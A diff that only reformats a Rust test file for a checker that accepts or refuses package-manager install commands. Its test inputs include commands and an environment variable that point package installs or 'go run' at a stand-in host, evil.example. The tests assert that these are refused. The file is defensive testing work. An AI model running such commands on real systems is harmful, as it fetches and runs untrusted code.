@@ -9,7 +9,10 @@ use crate::attempt::{Attempt, words};
 
 /// The project of all commands.
 const FILES: [(&str, &str); 4] = [
-    ("requirements.txt", "pyyaml\ngit+https://example.org/tool.git@v1\n"),
+    (
+        "requirements.txt",
+        "pyyaml\ngit+https://example.org/tool.git@v1\n",
+    ),
     ("pyproject.toml", "[project]\nname = \"shop\"\n"),
     ("package.json", "{}\n"),
     ("shop.py", "import yaml\n"),
@@ -55,17 +58,28 @@ fn install_commands_of_package_managers_are_accepted_and_others_are_not() {
 fn a_refusal_names_what_is_accepted() {
     let said = |line| check(&installing(command(line))).unwrap_err().to_string();
     let flag = said("uv add --index https://evil.example pyyaml");
-    assert!(flag.contains("'--index' is not accepted; `uv add` takes names of packages, --dev"), "{flag}");
+    assert!(
+        flag.contains("'--index' is not accepted; `uv add` takes names of packages, --dev"),
+        "{flag}"
+    );
     let subcommand = said("go run evil.example/x");
-    assert!(subcommand.contains("accepted: go get, go mod download, go mod tidy"), "{subcommand}");
+    assert!(
+        subcommand.contains("accepted: go get, go mod download, go mod tidy"),
+        "{subcommand}"
+    );
     let program = said("make install");
-    assert!(program.contains("'make' is not a package manager; accepted are commands like"), "{program}");
+    assert!(
+        program.contains("'make' is not a package manager; accepted are commands like"),
+        "{program}"
+    );
 }
 
 #[test]
 fn variables_input_and_changed_manifests_are_refused() {
     let mut variable = command("pip install pyyaml");
-    variable.env.insert("PIP_INDEX_URL".to_owned(), "https://evil.example".to_owned());
+    variable
+        .env
+        .insert("PIP_INDEX_URL".to_owned(), "https://evil.example".to_owned());
     let mut input = command("pip install pyyaml");
     input.stdin = Some("evil".to_owned());
     let mut manifest = installing(command("npm install"));
